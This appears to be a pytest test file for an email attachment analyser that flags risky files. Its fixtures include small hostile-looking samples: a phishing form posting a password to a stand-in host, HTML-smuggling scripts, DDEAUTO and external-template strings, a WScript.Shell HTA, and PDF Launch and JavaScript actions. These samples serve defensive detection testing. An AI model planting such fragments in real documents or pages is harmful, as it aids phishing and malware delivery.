"""What is told of an attached file: its kind by its bytes, its traits, what lies within."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import struct
import tarfile
import zlib

import pytest
from attachment_making import (
    ENCRYPTED_ZIP,
    PLACEHOLDER,
    document,
    image,
    ole,
    onenote,
    rar5,
    seven_zipped,
    zipped,
)

from tocsin.formats.syntax.attachments import look
from tocsin.model.message import Attachment

HTA = b"<html><head><script language='VBScript'>CreateObject(\"WScript.Shell\")</script></head></html>"


def seen(data: bytes, name: str = "x", declared: str = "", *passwords: str) -> Attachment:
    return look(name, declared, data, inline=False, passwords=passwords)


@pytest.mark.parametrize(
    ("data", "name", "declared", "kind"),
    [
        (zipped({"a.txt": b"x"}), "", "", "zip"),
        (seven_zipped({"a.txt": b"x"}), "", "", "7z"),
        (rar5("a.txt"), "", "", "rar"),
        (gzip.compress(b"x", mtime=0), "", "", "gz"),
        (image({"a.txt": b"x"}), "", "", "iso"),
        (b"conectix" + bytes(600), "", "", "vhd"),
        (b"vhdxfile" + bytes(600), "", "", "vhd"),
        (ole("WordDocument"), "", "", "ole"),
        (ole(clsid=bytes.fromhex("84100c0000000000c000000000000046")), "", "", "executable"),
        (ole(clsid=bytes.fromhex("0b0d020000000000c000000000000046")), "", "", "mail"),
        (document(), "", "", "ooxml"),
        (onenote(), "", "", "onenote"),
        (bytes.fromhex("4c0000000114020000000000c000000000000046"), "", "", "lnk"),
        (b"%PDF-1.7\n", "", "", "pdf"),
        (b"{\\rtf1 x}", "", "", "rtf"),
        (b"\r\n<!DOCTYPE html><html></html>", "", "", "html"),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "", "", "svg"),
        (b"MZ\x90\x00", "", "", "executable"),
        (b"\x7fELF\x02", "", "", "executable"),
        (b"ITSF\x03\x00\x00\x00", "", "", "chm"),
        (b"\x89PNG\r\n\x1a\n", "", "", "image"),
        (b"BEGIN:VCALENDAR\r\n", "", "", "calendar"),
        (b"-----BEGIN PGP SIGNATURE-----\n", "", "", "signature"),
        (b"-----BEGIN PGP MESSAGE-----\n", "", "", "encrypted"),
        (b"0\x82\x01\x00\x06\t*\x86H", "smime.p7s", "application/pkcs7-signature", "signature"),
        (b"0\x82\x01\x00\x06\t*\x86H", "smime.p7m", "application/pkcs7-mime", "encrypted"),
        (b"[InternetShortcut]\r\nURL=file://192.0.2.7/a\r\n", "", "", "shortcut"),
        (b"<?xml version='1.0'?><libraryDescription>", "", "", "shortcut"),
        (b"var a = 1;", "invoice.js", "", "script"),
        (b"\xff\xfe" + "var a = 1;".encode("utf-16-le"), "invoice.js", "", "script"),
        (b"var a = 1;", "notes.txt", "", "text"),
        (b'Set s = CreateObject("WScript.Shell")', "", "", "script"),
        (b"<job id='a'><script language='JScript'>", "", "", "script"),
        (HTA, "a.hta", "", "script"),
        (
            b"Received: from a by b\r\nFrom: a@contoso.example\r\nSubject: x\r\n\r\nx",
            "",
            "",
            "mail",
        ),
        (b"Hello.\n", "", "", "text"),
        (b"", "", "", "unknown"),
        (bytes(range(256)), "", "", "unknown"),
    ],
)
def test_kind_by_the_bytes(data: bytes, name: str, declared: str, kind: str):
    assert seen(data, name, declared).kind == kind


def test_what_it_is_called_and_how_big():
    found = look("a.txt", "text/plain", b"Hello.\n", inline=True, passwords=())
    assert (found.name, found.declared, found.size, found.inline) == (
        "a.txt",
        "text/plain",
        7,
        True,
    )
    assert found.sha256 == hashlib.sha256(b"Hello.\n").hexdigest()
    assert found.traits == ()


@pytest.mark.parametrize(
    ("name", "trait"),
    [
        ("Document_1.html", "named-html"),
        ("Mes_1.doc", "named-office-legacy"),
        ("a.docm", "named-office-macro"),
        ("a.one", "named-onenote"),
        ("a.zip", "named-archive"),
        ("a.iso", "named-disk-image"),
        ("a.vhd", "named-disk-image"),
        ("a.exe", "named-executable"),
        ("a.xll", "named-executable"),
        ("a.lnk", "named-shortcut"),
        ("a.library-ms", "named-shortcut"),
        ("A.JS ", "named-script"),
        ("a.wsf", "named-script"),
    ],
)
def test_the_name_says_it_when_the_bytes_do_not(name: str, trait: str):
    assert trait in seen(PLACEHOLDER, name).traits


@pytest.mark.parametrize("name", ["a.zip", "a.doc", "a.one", "a.html", "a.pdf", "a.iso", "a.jpg"])
def test_a_promise_not_kept(name: str):
    assert "mismatch" in seen(PLACEHOLDER, name).traits


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.zip", zipped({"a": b"x"})),
        ("a.doc", ole("WordDocument")),
        ("a.doc", b"{\\rtf1 x}"),
        ("a.docx", document()),
        ("a.html", b"<html></html>"),
        ("a.patch", b"diff --git a b\n"),
    ],
)
def test_a_promise_kept(name: str, data: bytes):
    assert "mismatch" not in seen(data, name).traits


@pytest.mark.parametrize(
    ("name", "trait", "expected"),
    [
        ("invoice.pdf.exe", "double-extension", True),
        ("invoice.pdf        .js", "double-extension", True),
        ("scan.jpg.html", "double-extension", True),
        ("v1.2.exe", "double-extension", False),
        ("report.xlsx.zip", "double-extension", False),
        ("invoice\u202efdp.exe", "right-to-left-override", True),
    ],
)
def test_names_that_deceive(name: str, trait: str, *, expected: bool):
    assert (trait in seen(b"MZ", name).traits) is expected


def test_an_archive_and_what_lies_within():
    inner = zipped({"b.txt": b"x", "c.js": b"var a"})
    found = seen(zipped({"a.txt": b"x", "in.zip": inner}), "a.zip")
    assert found.inside == ("a.txt", "in.zip", "in.zip!b.txt", "in.zip!c.js")
    assert {"nested-archive", "risky-inside"} <= set(found.traits)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.js", b"x"), ("a.lnk", b"x"), ("a.iso", b"x"), ("a.one", b"x"), ("a.html", b"x"),
        ("a.xlsm", b"x"), ("readme", b"MZ\x90"), ("a.txt", onenote()),
        ("a.doc", ole("_VBA_PROJECT")), ("a.pdf", b"%PDF-1.7\n<</S /Launch /F (x)>>"),
    ],
)  # fmt: skip
def test_members_that_do_harm(name: str, data: bytes):
    assert "risky-inside" in seen(zipped({name: data})).traits


def test_members_that_do_not():
    found = seen(zipped({"a.txt": b"x", "b.pdf": b"%PDF-1.7\n", "c.docx": document()}))
    assert found.traits == ()
    assert found.inside == ("a.txt", "b.pdf", "c.docx")


def _words(value: object) -> str:
    """A name for a case that is the same in each process."""
    return value[:40] if isinstance(value, str) else "data"


def _tar(name: str) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = 3
        archive.addfile(entry, io.BytesIO(b"abc"))
    return made.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "inside"),
    [
        (_tar("d/a.js"), "a.tar", "d/a.js"),
        (_tar("d/" + "x" * 150 + "/a.js"), "a.tar", "d/" + "x" * 150 + "/a.js"),
        (gzip.compress(_tar("a.js")), "a.tgz", "a.tar!a.js"),
        (bz2.compress(_tar("a.js")), "a.tar.bz2", "a.tar!a.js"),
        (lzma.compress(b"MZ"), "a.exe.xz", "a.exe"),
        (rar5("a.js"), "a.rar", "a.js"),
        (seven_zipped({"a.js": b"x", "b.txt": b"y"}), "a.7z", "a.js"),
        (seven_zipped({"a.js": b"x"}, "abc"), "a.7z", "a.js"),
        (image({"a.js": b"x", "long name of a file.txt": b"y"}), "a.iso", "a.js"),
    ],
    ids=_words,  # archives hold the time at which they were made
)
def test_every_archive_gives_its_names(data: bytes, name: str, inside: str):
    found = seen(data, name)
    assert inside in found.inside
    assert "risky-inside" in found.traits


def test_names_in_a_file_system_that_is_not_walked():
    disk = b"vhdxfile" + bytes(5000) + "Invoice 4711.lnk\0".encode("utf-16-le") + b"\0run me.bat\0"
    found = seen(disk, "a.vhdx")
    assert set(found.inside) == {"Invoice 4711.lnk", "run me.bat"}
    assert {"risky-inside", "shortcut-in-image"} <= set(found.traits)


def test_a_disk_image_that_starts_by_itself():
    found = seen(image({"autorun.inf": b"[autorun]", "a.lnk": b"x"}), "a.iso")
    assert {"autorun", "shortcut-in-image", "risky-inside"} <= set(found.traits)


@pytest.mark.parametrize(
    "data",
    [
        ENCRYPTED_ZIP,
        seven_zipped({"a.txt": b"x"}, "abc"),
        seven_zipped({"a.txt": b"x"}, "abc", hide=True),
        rar5("a", encrypted_headers=True),
        ole("EncryptedPackage", "EncryptionInfo"),
        ole("WordDocument", stream=b"\xec\xa5\xc1\x00" + bytes(7) + b"\x13"),
        b"%PDF-1.7\ntrailer <</Encrypt 5 0 R>>",
    ],
)
def test_encrypted(data: bytes):
    assert "encrypted" in seen(data).traits


@pytest.mark.parametrize(
    ("passwords", "opened"), [(("U4613",), True), (("no", "U4613"), True), (("U4614",), False), ((), False)]
)  # fmt: skip
def test_the_password_of_the_text_opens_it(passwords: tuple[str, ...], *, opened: bool):
    found = seen(ENCRYPTED_ZIP, "a.zip", "", *passwords)
    assert ("opened-with-password" in found.traits) is opened
    assert found.inside == ("inner.exe",)
    assert "risky-inside" in found.traits


def test_an_aes_zip_is_opened_too():
    """WinZip AE-2 as its specification has it, written here with the standard library alone."""
    secret, salt, body = b"U4613", bytes(range(16)), b"ciphertext stands here"
    keys = hashlib.pbkdf2_hmac("sha1", secret, salt, 1000, 66)
    import hmac

    code = hmac.new(keys[32:64], body, "sha1").digest()[:10]
    raw = salt + keys[64:] + body + code
    extra = struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8)
    common = struct.pack("<HHHHHIIIHH", 51, 1, 99, 0, 0, 0, len(raw), 22, 5, len(extra))
    local = b"PK\x03\x04" + common + b"a.txt" + extra + raw
    entry = b"PK\x01\x02" + struct.pack("<H", 51) + common + struct.pack("<HHHII", 0, 0, 0, 0, 0)
    central = entry + b"a.txt" + extra
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    data = local + central + end
    assert "opened-with-password" in seen(data, "a.zip", "", "U4613").traits
    assert "opened-with-password" not in seen(data, "a.zip", "", "wrong").traits


_RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="https://evil.example/x" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "text", "trait"),
    [
        ("word/vbaProject.bin", "x", "macro"),
        ("xl/macrosheets/sheet1.xml", "x", "macro"),
        ("word/embeddings/oleObject1.bin", "x", "embedded-object"),
        (
            "word/_rels/settings.xml.rels",
            _RELATION.format(kind="attachedTemplate"),
            "external-template",
        ),
        ("word/_rels/document.xml.rels", _RELATION.format(kind="oleObject"), "external-link"),
        (
            "word/document.xml",
            '<w:instrText xml:space="preserve"> DDEAUTO c:\\x </w:instrText>',
            "dde",
        ),
        ("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd">', "dde"),
    ],
)
def test_what_an_office_document_carries(part: str, text: str, trait: str):
    assert trait in seen(document(**{part: text}), "a.docx").traits


def test_an_office_document_with_ordinary_links():
    parts = {
        "word/_rels/document.xml.rels": _RELATION.format(kind="hyperlink"),
        "word/document.xml": "<w:t>DDE is a protocol</w:t>",
    }
    found = seen(document(**parts), "a.docx")
    assert (found.traits, found.leads) == (("named-office", "uri"), ("evil.example",))


@pytest.mark.parametrize(
    ("data", "trait"),
    [
        (ole("WordDocument", "_VBA_PROJECT"), "macro"),
        (
            ole("Workbook", stream=b"\x85\x00\x0e\x00" + bytes(4) + b"\x00\x01\x06\x00Macro1"),
            "macro",
        ),
        (ole("WordDocument", "\x01Ole10Native"), "embedded-object"),
        (ole("WordDocument", stream=b"\x13 DDEAUTO c:\\\\x \x14"), "dde"),
        (b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "embedded-object"),
        (b"{\\rtf1 {\\*\\template http://evil.example/x}}", "external-template"),
        (b"%PDF-1.7\n<</S /JavaScript /JS (app.alert)>>", "javascript"),
        (b"%PDF-1.7\n<</S /J#61vaScript /J#53 (app.alert)>>", "javascript"),
        (b"%PDF-1.7\n<</S /Launch>>", "launch"),
        (b"%PDF-1.7\n<</S /URI /URI (https://evil.example)>>", "uri"),
        (b"%PDF-1.7\n<</Names <</EmbeddedFiles 3 0 R>>>>", "embedded-files"),
    ],
)
def test_what_other_documents_do(data: bytes, trait: str):
    assert trait in seen(data).traits


def test_a_macro_shows_in_a_file_cut_short():
    whole = ole("WordDocument", "_VBA_PROJECT")
    assert "macro" in seen(whole[:-1600], "a.doc").traits


def test_files_inside_onenote():
    found = seen(onenote(HTA, b"\x89PNG\r\n\x1a\n", b"MZ\x90"), "a.one")
    assert found.inside == ("1 (html)", "2 (image)", "3 (executable)")
    assert {"embedded-files", "risky-inside"} <= set(found.traits)
    assert "embedded-files" not in seen(onenote(b"\x89PNG\r\n\x1a\n"), "a.one").traits


BLOB = b"UEsDBBQACQAIAPdDe12c2VXK" + b"A" * 2000


@pytest.mark.parametrize(
    ("page", "traits"),
    [
        (b"<html><script>var b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='i.zip'</script>", {"smuggling"}),
        (b"<html><script>document.write(unescape('%3c'))</script>" + b"<!--" + BLOB + b"-->", {"smuggling"}),
        (b"<html><script>var d='" + BLOB + b"';navigator.msSaveOrOpenBlob(d)</script>", {"smuggling", "embedded-files"}),
        (b"<html><form action='https://evil.example/p'><input name=p type='password'>", {"credential-form"}),
        (b"<html><meta http-equiv='refresh' content='0;url=https://evil.example'>", {"redirect"}),
        (b"<html><img src='file://192.0.2.7/a.png'>", {"smb"}),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>location.href='x';atob('a')</script></svg>", {"smuggling"}),
    ],
)  # fmt: skip
def test_pages(page: bytes, traits: set[str]):
    assert traits <= set(seen(page, "a.html").traits)


@pytest.mark.parametrize(
    "page",
    [
        b"<html><body><p>The minutes of the meeting. Download them.</p></body></html>",
        b"<html><img src='data:image/png;base64," + b"A" * 5000 + b"'></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    ],
)
def test_ordinary_pages(page: bytes):
    assert set(seen(page).traits) == set()


def test_padded():
    assert "padded" in seen(bytes(51 << 20), "a.doc").traits
    assert "padded" in seen(zipped({"a.doc": bytes(60 << 20)}), "a.zip").traits
    assert "padded" not in seen(zipped({"a.txt": b"abc" * 1000}), "a.zip").traits


def test_where_a_pdf_leads():
    """Links in parentheses, in hex and in a compressed object stream (ISO 32000-1, 7.3.4, 7.5.7)."""
    packed = zlib.compress(b"<</S/URI/URI(https://packed.example/x)>>")
    body = (
        b"%PDF-1.7\n<</S/URI /URI (https://a\\.example/\\(1\\))>> <</URI <687474703a2f2f622e6578616d706c652f>>>"
        b" <</Type /ObjStm /Length 9>> stream\n" + packed + b"\nendstream"
    )
    assert seen(body).leads == ("a.example", "b.example", "packed.example")
    assert seen(b"%PDF-1.7\n<</Type /Catalog>>").leads == ()


def test_a_pdf_that_leads_to_too_many_places_is_not_known_whole():
    links = b"".join(b"<</URI (https://h%d.example/)>>" % number for number in range(21))
    assert seen(b"%PDF-1.7\n" + links).leads == ()
